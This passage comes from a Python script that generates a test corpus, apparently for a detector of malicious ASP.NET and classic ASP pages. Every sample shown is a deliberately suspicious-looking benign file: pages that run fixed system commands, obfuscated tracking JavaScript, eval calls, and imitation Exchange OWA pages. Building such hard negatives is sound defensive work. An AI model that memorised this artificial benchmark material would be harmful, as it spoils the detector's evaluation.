<asp:Label ID="lblStatus" runat="server" />
</form></body></html>
'''))

ben(S, "DiskReport.aspx", strip1(r'''
<%@ Page Language="C#" %>
<%@ Import Namespace="System.Diagnostics" %>
<script runat="server">
protected void Page_Load(object sender, EventArgs e)
{
    var psi = new ProcessStartInfo();
    psi.FileName = "fsutil.exe";
    psi.Arguments = "volume diskfree C:";
    psi.UseShellExecute = false;
    psi.RedirectStandardOutput = true;
    psi.CreateNoWindow = true;
    using (Process p = Process.Start(psi))
    {
        string text = p.StandardOutput.ReadToEnd();
        p.WaitForExit(5000);
        litOut.Text = Server.HtmlEncode(text);
    }
}
</script>
<html><body><h1>Free space on C:</h1><pre><asp:Literal ID="litOut" runat="server" /></pre></body></html>
'''), eol="lf")

ben(S, "Version.aspx", strip1(r'''
<%@ Page Language="C#" %>
<%@ Import Namespace="System.Reflection" %>
<script runat="server">
protected void Page_Load(object sender, EventArgs e)
{
    Assembly ext = Assembly.Load("System.Web.Extensions, Version=4.0.0.0, Culture=neutral, PublicKeyToken=31bf3856ad364e35");
    lblExt.Text = ext.FullName;
    lblRuntime.Text = Environment.Version.ToString();
    lblApp.Text = typeof(System.Web.HttpApplication).Assembly.GetName().Version.ToString();
    foreach (AssemblyName n in Assembly.GetExecutingAssembly().GetReferencedAssemblies())
        blRefs.Items.Add(n.Name + " " + n.Version);
}
</script>
<html><body><form runat="server">
Runtime <asp:Label ID="lblRuntime" runat="server" /> / System.Web <asp:Label ID="lblApp" runat="server" /><br />
AJAX extensions: <asp:Label ID="lblExt" runat="server" />
<asp:BulletedList ID="blRefs" runat="server" />
</form></body></html>
'''))

ben(S, "SaveSignature.aspx", strip1(r'''
<%@ Page Language="C#" %>
<%@ Import Namespace="System.IO" %>
<script runat="server">
// The signature pad posts a PNG as base64 in "img"; store it under a new name.
protected void Page_Load(object sender, EventArgs e)
{
    if (Request.HttpMethod != "POST") return;
    string data = Request["img"] ?? "";
    const string prefix = "data:image/png;base64,";
    if (data.StartsWith(prefix)) data = data.Substring(prefix.Length);
    byte[] png = Convert.FromBase64String(data);
    if (png.Length < 8 || png.Length > 512 * 1024 || png[0] != 0x89 || png[1] != 0x50)
    {
        Response.StatusCode = 400;
        return;
    }
    string folder = Server.MapPath("~/App_Data/signatures");
    string id = Guid.NewGuid().ToString("N");
    File.WriteAllBytes(Path.Combine(folder, id + ".png"), png);
    Response.ContentType = "application/json";
    Response.Write("{\"id\":\"" + id + "\"}");
}
</script>
'''))

ben(S, "SmtpTest.aspx", strip1(r'''
<%@ Page Language="C#" EnableSessionState="True" %>
<%@ Import Namespace="System.Net.Sockets" %>
<%@ Import Namespace="System.Text" %>
<script runat="server">
// Checks that the relay answers: connect to the fixed smart host, read the banner, QUIT.
protected void btnTest_Click(object sender, EventArgs e)
{
    string banner;
    try
    {
        using (Socket s = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp))
        {
            s.ReceiveTimeout = 5000;
            s.Connect("smtp.contoso.com", 25);
            byte[] buf = new byte[512];
            int n = s.Receive(buf);
            banner = Encoding.ASCII.GetString(buf, 0, n).Trim();
            s.Send(Encoding.ASCII.GetBytes("QUIT\r\n"));
        }
    }
    catch (SocketException ex)
    {
        banner = "failed: " + ex.SocketErrorCode;
    }
    Session["lastSmtpTest"] = DateTime.Now.ToString("s") + " " + banner;
    lblResult.Text = Server.HtmlEncode((string)Session["lastSmtpTest"]);
}
</script>
<html><body><form runat="server">
<asp:Button ID="btnTest" runat="server" Text="Test mail relay" OnClick="btnTest_Click" />
<asp:Label ID="lblResult" runat="server" />
</form></body></html>
'''), eol="lf")

ben(S, "Login.aspx", strip1(r'''
<%@ Page Language="C#" %>
<%@ Import Namespace="System.Data.SqlClient" %>
<%@ Import Namespace="System.Web.Security" %>
<%@ Import Namespace="System.Configuration" %>
<script runat="server">
protected void btnLogin_Click(object sender, EventArgs e)
{
    string user = Request.Form["user"];
    string pwd = Request.Form["pwd"];
    string stored = null, salt = null;
    using (var conn = new SqlConnection(ConfigurationManager.ConnectionStrings["Admin"].ConnectionString))
    using (var cmd = new SqlCommand("SELECT PwdHash, Salt FROM Operators WHERE Login = @u", conn))
    {
        cmd.Parameters.AddWithValue("@u", user ?? "");
        conn.Open();
        using (var rd = cmd.ExecuteReader())
            if (rd.Read()) { stored = rd.GetString(0); salt = rd.GetString(1); }
    }
    if (stored != null && FormsAuthentication.HashPasswordForStoringInConfigFile(salt + pwd, "SHA1") == stored)
        FormsAuthentication.RedirectFromLoginPage(user, false);
    else
        lblError.Text = "Wrong user name or password.";
}
</script>
<html><body><form runat="server">
User <input type="text" name="user" /> Password <input type="password" name="pwd" />
<asp:Button runat="server" Text="Sign in" OnClick="btnLogin_Click" />
<asp:Label ID="lblError" runat="server" ForeColor="Red" />
</form></body></html>
'''))

ben(S, "ServiceStatus.aspx", strip1(r'''
<%@ Page Language="VB" %>
<%@ Import Namespace="System.Diagnostics" %>
<script runat="server">
Sub Page_Load(sender As Object, e As EventArgs)
    Dim p As New Process()
    p.StartInfo.FileName = "sc.exe"
    p.StartInfo.Arguments = "query W3SVC"
    p.StartInfo.UseShellExecute = False
    p.StartInfo.RedirectStandardOutput = True
    p.Start()
    litOut.Text = Server.HtmlEncode(p.StandardOutput.ReadToEnd())
    p.WaitForExit()
End Sub
</script>
<html><body><pre><asp:Literal ID="litOut" runat="server" /></pre></body></html>
'''))

ben(S, "PluginLoader.aspx", strip1(r'''
<%@ Page Language="C#" %>
<%@ Import Namespace="System.Reflection" %>
<script runat="server">
protected void Page_Load(object sender, EventArgs e)
{
    Assembly reports = Assembly.LoadFrom(Server.MapPath("~/bin/Plugins/Contoso.Reports.dll"));
    Type t = reports.GetType("Contoso.Reports.MonthlySummary");
    object report = Activator.CreateInstance(t);
    litReport.Text = Server.HtmlEncode((string)t.GetMethod("Render").Invoke(report, new object[] { DateTime.Today }));
}
</script>
<html><body><asp:Literal ID="litReport" runat="server" /></body></html>
'''), eol="lf")

ben(S, "backup.asp", strip1(r'''
<%@ Language="VBScript" %>
<!-- #include virtual="/admin/auth.asp" -->
<%
' Starts the nightly backup script on demand (admins only, see auth.asp).
Dim sh
If Request.Form("go") = "1" Then
    Set sh = Server.CreateObject("WScript.Shell")
    sh.Run "cmd.exe /c C:\Scripts\backup-site.cmd", 0, False
    Set sh = Nothing
    Response.Write "<p>Backup started.</p>"
End If
%>
<form method="post"><input type="hidden" name="go" value="1" /><input type="submit" value="Start backup" /></form>
'''))

ben(S, "HashCheck.aspx", strip1(r'''
<%@ Page Language="C#" %>
<%@ Import Namespace="System.Security.Cryptography" %>
<script runat="server">
// Shows the MD5 of an uploaded installer so it can be compared with the vendor's list.
protected void Page_Load(object sender, EventArgs e)
{
    HttpPostedFile f = Request.Files["pkg"];
    if (f == null || f.ContentLength == 0) return;
    byte[] h = MD5.Create().ComputeHash(f.InputStream);
    string hex = BitConverter.ToString(h).Replace("-", "");
    lblHash.Text = hex;
    lblMatch.Text = hex == "''' + md5hex("vendor-installer-7.2") + r'''" ? "matches release 7.2" : "unknown build";
}
</script>
<html><body><form runat="server" enctype="multipart/form-data">
<input type="file" name="pkg" /><input type="submit" value="Hash" />
MD5: <asp:Label ID="lblHash" runat="server" /> <asp:Label ID="lblMatch" runat="server" />
</form></body></html>
'''))

# ---- clientside: browser scripts, classic ASP, config ---------------------
S = "clientside"

ben(S, "Dashboard.aspx", strip1(r'''
<%@ Page Language="C#" AutoEventWireup="true" CodeBehind="Dashboard.aspx.cs" Inherits="Contoso.Ops.Dashboard" %>
<!DOCTYPE html>
<html>
<head runat="server">
<title>Dashboard</title>
<script type="text/javascript">
    // old widget feed: the server sends a JS object literal, not JSON
    function loadWidgets(text) {
        var data = eval("(" + text + ")");
        for (var i = 0; i < data.widgets.length; i++) render(data.widgets[i]);
    }
    var params = document.location.search.substring(1).split("&");
    var filter = params.length ? decodeURIComponent(params[0].split("=")[1] || "") : "";
    window.setTimeout("refresh()", 30000);
</script>
</head>
<body>
<form id="form1" runat="server">
    <asp:ScriptManager ID="sm" runat="server" EnablePageMethods="true" />
    <div id="widgets" data-user="<%: User.Identity.Name %>"></div>
</form>
<script>
    function refresh() {
        var x = new XMLHttpRequest();
        x.open("GET", "Widgets.ashx?filter=" + encodeURIComponent(filter));
        x.onload = function () { loadWidgets(x.responseText); };
        x.send();
    }
    refresh();
</script>
</body>
</html>
'''))

ben(S, "tracker.min.html", strip1('''
<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>Thanks</title>
<script>var _0x3f2a=['\\x63\\x6f\\x6f\\x6b\\x69\\x65','\\x6c\\x6f\\x63\\x61\\x74\\x69\\x6f\\x6e','search','push'];(function(_0x1b,_0x2c){var _0x3d=function(_0x4e){while(--_0x4e){_0x1b[_0x3f2a[0x3]](_0x1b.shift());}};_0x3d(++_0x2c);}(_0x3f2a,0x7b));var _0x5a=function(_0x6b){return _0x3f2a[_0x6b-0x0];};var _0xq=document[_0x5a('0x1')][_0x5a('0x2')];var _0xk=String.fromCharCode(0x5f,0x75,0x74,0x6d);if(_0xq.indexOf(_0xk)>-0x1){document[_0x5a('0x0')]=_0xk+'='+encodeURIComponent(_0xq)+';path=/';}eval(function(p,a,c,k){return p}('window.t=1',0,0,''));</script>
</head><body><p>Thank you for your order.</p></body></html>
'''), eol="lf")

ben(S, "Tracker.aspx", strip1('''
<%@ Page Language="C#" %>
<html>
<head>
<title><%= Server.HtmlEncode(Request.QueryString["campaign"] ?? "Offer") %></title>
<script type="text/javascript">
var _0x9c1e=['\\x72\\x65\\x66','\\x73\\x72\\x63','img'];
(function(){var i=document.createElement(_0x9c1e[2]);i[_0x9c1e[1]]='/px.gif?'+_0x9c1e[0]+'='+encodeURIComponent(document.referrer)+'&c=<%= HttpUtility.JavaScriptStringEncode(Request.QueryString["campaign"] ?? "") %>';document.body.appendChild(i);})();
var label = String.fromCharCode(79, 102, 102, 101, 114);
</script>
</head>
<body><h1>Special offer</h1></body>
</html>
'''))

ben(S, "legacy.asp", strip1(r'''
<%@ Language="VBScript" %>
<%
Option Explicit
Dim id, conn, rs
id = Request("id")
If Not IsNumeric(id) Or id = "" Then id = 0
Set conn = Server.CreateObject("ADODB.Connection")
conn.Open Application("ConnStr")
Set rs = conn.Execute("SELECT Title, Body FROM News WHERE NewsID = " & CLng(id))
%>
<html>
<head>
<title>News</title>
<script language="javascript">
function show(s) { var o = eval("document.all." + s); o.style.display = "block"; }
</script>
</head>
<body>
<% If Not rs.EOF Then %>
<h1><%= Server.HTMLEncode(rs("Title")) %></h1>
<div><%= Server.HTMLEncode(rs("Body")) %></div>
<% Else %>
<p>No such article.</p>
<% End If
rs.Close : conn.Close
%>
<a href="#" onclick="show('more')">More</a>
</body>
</html>
'''))

ben(S, "news.asp", strip1(r'''
<%
Dim page, pageSize
page = Request.QueryString("page")
If IsNumeric(page) And page <> "" Then page = CInt(page) Else page = 1
If page < 1 Then page = 1
pageSize = 10
%>
<html><body>
<h1>Archive, page <%= page %></h1>
<script type="text/vbscript">
Sub window_onload()
    MsgBox "Loaded"
End Sub
</script>
<script>
  var q = document.location.search;
  if (q.indexOf("print=1") > 0) window.print();
</script>
<a href="news.asp?page=<%= page + 1 %>">Next</a>
</body></html>
'''), eol="lf")

ben(S, "web.config", strip1(r'''
<?xml version="1.0" encoding="utf-8"?>
<configuration>
  <appSettings>
    <add key="CompanyName" value="Contoso" />
    <add key="UploadFolder" value="~/Uploads/" />
  </appSettings>
  <connectionStrings>
    <add name="Shop" connectionString="Data Source=sql01;Initial Catalog=Shop;Integrated Security=True" providerName="System.Data.SqlClient" />
  </connectionStrings>
  <system.web>
    <compilation debug="false" targetFramework="4.8" />
    <httpRuntime targetFramework="4.8" maxRequestLength="10240" />
    <authentication mode="Forms">
      <forms loginUrl="~/Account/Login.aspx" timeout="30" requireSSL="true" />
    </authentication>
    <customErrors mode="RemoteOnly" defaultRedirect="~/Error.aspx" />
    <pages controlRenderingCompatibilityVersion="4.0">
      <namespaces>
        <add namespace="System.Web.Optimization" />
      </namespaces>
    </pages>
  </system.web>
  <system.webServer>
    <handlers>
      <add name="Thumbnail" path="thumb.axd" verb="GET" type="Contoso.Web.Thumbnail" />
    </handlers>
    <httpProtocol>
      <customHeaders>
        <add name="X-Content-Type-Options" value="nosniff" />
      </customHeaders>
    </httpProtocol>
  </system.webServer>
</configuration>
'''), bom=True)

ben(S, "Global.asax", strip1(r'''
<%@ Application Language="C#" %>
<%@ Import Namespace="System.Web.Routing" %>
<script runat="server">
void Application_Start(object sender, EventArgs e)
{
    RouteTable.Routes.MapPageRoute("product", "products/{id}", "~/OrderDetails.aspx");
    RouteTable.Routes.MapPageRoute("search", "search/{q}", "~/Search.aspx");
    Application["StartedAt"] = DateTime.UtcNow;
}

void Application_Error(object sender, EventArgs e)
{
    Exception ex = Server.GetLastError();
    System.Diagnostics.Trace.TraceError("Unhandled: {0} at {1}", ex, Request.RawUrl);
}

void Session_Start(object sender, EventArgs e)
{
    Session["Culture"] = Request.UserLanguages != null && Request.UserLanguages.Length > 0 ? Request.UserLanguages[0] : "en-US";
}
</script>
'''))

ben(S, "templates.html", strip1(r'''
<!DOCTYPE html>
<html>
<head>
<meta charset="utf-8">
<title>Order list</title>
<script type="text/template" id="row-tpl">
  <tr><td><%- name %></td><td><%- qty %></td>
  <% if (late) { %><td class="late">late</td><% } %></tr>
</script>
<script src="/lib/underscore-min.js"></script>
<script>
  var tpl = _.template(document.getElementById("row-tpl").innerHTML);
  var rows = eval(document.getElementById("seed").textContent);
  var page = new URLSearchParams(document.location.search).get("page") || "1";
</script>
</head>
<body><table id="orders"></table><script id="seed" type="application/json">[{"name":"Mug","qty":2,"late":false}]</script></body>
</html>
'''), eol="lf")

ben(S, "Map.aspx", strip1(r'''
<%@ Page Language="C#" %>
<!DOCTYPE html>
<html>
<head runat="server"><title>Find a store</title></head>
<body>
<form id="form1" runat="server">
<asp:ScriptManager ID="ScriptManager1" runat="server" />
<script type="text/javascript">
    var cfg = eval('(' + '{"zoom": 12, "lat": 47.6, "lng": -122.3}' + ')');
    function center() { return [cfg.lat, cfg.lng]; }
</script>
<asp:UpdatePanel runat="server"><ContentTemplate>
    <asp:DropDownList ID="ddlCity" runat="server" AutoPostBack="true" />
</ContentTemplate></asp:UpdatePanel>
</form>
</body>
</html>
'''))

# ---- exchange-like: ordinary OWA/ECP/OAB artefacts -----------------------
S = "exchange-like"

ben(S, "logon.aspx", strip1(r'''
<%@ Page Language="c#" AutoEventWireup="false" Inherits="Microsoft.Exchange.HttpProxy.Logon" %>
<%@ Import Namespace="Microsoft.Exchange.Clients.Owa.Core" %>
<!DOCTYPE html>
<html dir="<%=IsRtl ? "rtl" : "ltr"%>">
<head>
<meta http-equiv="Content-Type" content="text/html; charset=UTF-8">
<meta http-equiv="X-UA-Compatible" content="IE=10" />
<title><%=Strings.GetLocalizedString(Strings.IDs.OutlookWebApp)%></title>
<link type="text/css" rel="stylesheet" href="/owa/auth/<%=InstalledVersion%>/themes/resources/logon.css">
<script type="text/javascript" src="/owa/auth/<%=InstalledVersion%>/scripts/flogon.js"></script>
<script type="text/javascript">
    var a_fRC = 1, g_fFcs = 1, a_fLOff = 0, a_fCAC = 1, a_fEnbSMm = 1;
    function clkLgn() { if (gbid("username").value.length == 0) { shwErr(1); return false; } return true; }
</script>
</head>
<body class="signInBg" onload="javascript:rcrsz();">
<form action="/owa/auth.owa" method="POST" name="logonForm" autocomplete="off">
    <input type="hidden" name="destination" value="<%=Destination%>">
    <input type="hidden" name="flags" value="4">
    <input type="hidden" name="forcedownlevel" value="0">
    <div class="signInInputLabel"><%=Strings.GetLocalizedString(Strings.IDs.UserNameLabel)%></div>
    <input id="username" name="username" type="text" class="signInInputText" role="textbox">
    <div class="signInInputLabel"><%=Strings.GetLocalizedString(Strings.IDs.PasswordLabel)%></div>
    <input id="password" name="password" type="password" class="signInInputText" role="textbox">
    <% if (ShowPublicPrivateSelection) { %>
    <input id="chkPrvt" name="trusted" type="checkbox" value="4" checked> <%=Strings.GetLocalizedString(Strings.IDs.PrivateComputer)%>
    <% } %>
    <div onclick="clkLgn()" class="signinbutton" role="button" tabindex="0">sign in</div>
</form>
</body>
</html>
'''))

ben(S, "oab-settings.txt", oab_dump("benign-oab", server="EXCH02", changed="1/14/2023 3:02:11 PM",
                                    changedutc="1/14/2023 11:02:11 PM"))

ben(S, "oab-settings-lf.txt", oab_dump("benign-oab-2", server="MBX01",
                                       internal="https://mbx01.corp.contoso.com/OAB",
                                       external="https://webmail.contoso.com/OAB"), eol="lf")

ben(S, "ecp-virtualdirectory.txt", strip1(r'''

Name                            : ecp (Default Web Site)
Server                          : EXCH02
InternalUrl                     : https://exch02.corp.contoso.com/ecp
ExternalUrl                     : https://mail.contoso.com/ecp
InternalAuthenticationMethods   : {Basic, Fba}
ExternalAuthenticationMethods   : {Fba}
BasicAuthentication             : True
WindowsAuthentication           : False
FormsAuthentication             : True
AdminEnabled                    : True
OwaOptionsEnabled               : True
ExtendedProtectionTokenChecking : None
DefaultDomain                   :
Path                            : C:\Program Files\Microsoft\Exchange Server\V15\ClientAccess\ecp
MetabasePath                    : IIS://exch02.corp.contoso.com/W3SVC/1/ROOT/ecp
Identity                        : EXCH02\ecp (Default Web Site)
IsValid                         : True
ObjectState                     : Unchanged


'''))

ben(S, "errorFE.aspx", strip1(r'''
<%@ Page Language="c#" AutoEventWireup="false" Inherits="Microsoft.Exchange.HttpProxy.ErrorFE" %>
<!DOCTYPE html>
<html>
<head>
<meta http-equiv="Content-Type" content="text/html; charset=UTF-8">
<title><%=Strings.GetLocalizedString(Strings.IDs.ErrorTitle)%></title>
<style>body { font-family: "Segoe UI", Tahoma, sans-serif; color: #333; }</style>
</head>
<body>
<div class="errorHeader"><%=Strings.GetLocalizedString(Strings.IDs.ErrorHeader)%></div>
<div class="errorDetails">
    <%=HttpUtility.HtmlEncode(ErrorMessage)%>
    <% if (ShowDetails) { %>
    <br />X-ClientId: <%=HttpUtility.HtmlEncode(Request.Headers["X-ClientId"] ?? "")%>
    <br />request-id: <%=HttpUtility.HtmlEncode(RequestId)%>
    <br />X-OWA-Error: <%=HttpUtility.HtmlEncode(Request.QueryString["httpCode"] ?? "")%>
    <% } %>
</div>
<a href="/owa/">Refresh the page</a>
</body>
</html>
'''), bom=True)

ben(S, "expiredpassword.aspx", strip1(r'''
<%@ Page Language="c#" AutoEventWireup="false" Inherits="Microsoft.Exchange.HttpProxy.ExpiredPassword" %>
<!DOCTYPE html>
<html>
<head>
<meta http-equiv="Content-Type" content="text/html; charset=UTF-8">
<title><%=Strings.GetLocalizedString(Strings.IDs.ChangePassword)%></title>
<script type="text/javascript">
    function chkPwd() {
        var n = document.getElementById("newPwd1").value, c = document.getElementById("newPwd2").value;
        if (n != c) { document.getElementById("err").style.display = "block"; return false; }
        return true;
    }
</script>
</head>
<body>
<form action="/owa/auth/expiredpassword.aspx?url=<%=HttpUtility.UrlEncode(Destination)%>" method="POST" onsubmit="return chkPwd()">
    <input type="hidden" name="destination" value="<%=HttpUtility.HtmlAttributeEncode(Destination)%>">
    <input type="text" name="username" value="<%=HttpUtility.HtmlAttributeEncode(Request.Form["username"] ?? "")%>">
    <input type="password" name="oldPwd"><input type="password" id="newPwd1" name="newPwd1"><input type="password" id="newPwd2" name="newPwd2">
    <div id="err" style="display:none"><%=Strings.GetLocalizedString(Strings.IDs.PasswordsDoNotMatch)%></div>
    <input type="submit" value="submit">
</form>
</body>
</html>
'''))

ben(S, "TimeoutLogoff.aspx", strip1(r'''
<%@ Page Language="c#" AutoEventWireup="false" Inherits="Microsoft.Exchange.Management.ControlPanel.TimeoutLogoff" %>
<!DOCTYPE html>
<html>
<head><title>Exchange admin center</title>
<script type="text/javascript">
    window.setTimeout(function () { window.location.href = "/ecp/?ExchClientVer=15"; }, 5000);
</script>
</head>
<body>
<p><%=Strings.SessionTimedOut%></p>
<p><a href="/ecp/"><%=Strings.SignInAgain%></a></p>
</body>
</html>
'''), eol="lf")


# ==========================================================================
# write / check
# ==========================================================================


def existing():
    found = set()
    for top in OWNED:
        base = os.path.join(HERE, top)
        for root, _dirs, files in os.walk(base):
            for f in files:
                found.add(os.path.relpath(os.path.join(root, f), HERE).replace(os.sep, "/"))
    return found


def main(argv):
    check = "--check" in argv[1:]
    on_disk = existing()
    stale = sorted(on_disk - set(FILES))
    differ = []
    for rel, data in sorted(FILES.items()):
        path = os.path.join(HERE, rel)
        try:
            with open(path, "rb") as f:
                same = f.read() == data
        except FileNotFoundError:
            same = False
        if same:
            continue
        differ.append(rel)
        if not check:
            os.makedirs(os.path.dirname(path), exist_ok=True)
            with open(path, "wb") as f:
                f.write(data)
    if check:
        for rel in differ:
            print("differs or missing: " + rel)
        for rel in stale:
            print("not generated: " + rel)
        npos = sum(1 for r in FILES if r.startswith("positive/"))
        print("%d files (%d positive, %d benign); %d differ, %d extra"
              % (len(FILES), npos, len(FILES) - npos, len(differ), len(stale)))
        return 1 if differ or stale else 0
    for rel in stale:
        os.remove(os.path.join(HERE, rel))
    for top in OWNED:  # drop folders left empty
        for root, dirs, files in os.walk(os.path.join(HERE, top), topdown=False):
            if not dirs and not files and root != os.path.join(HERE, top):
                os.rmdir(root)
    print("wrote %d files, removed %d" % (len(differ), len(stale)))
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
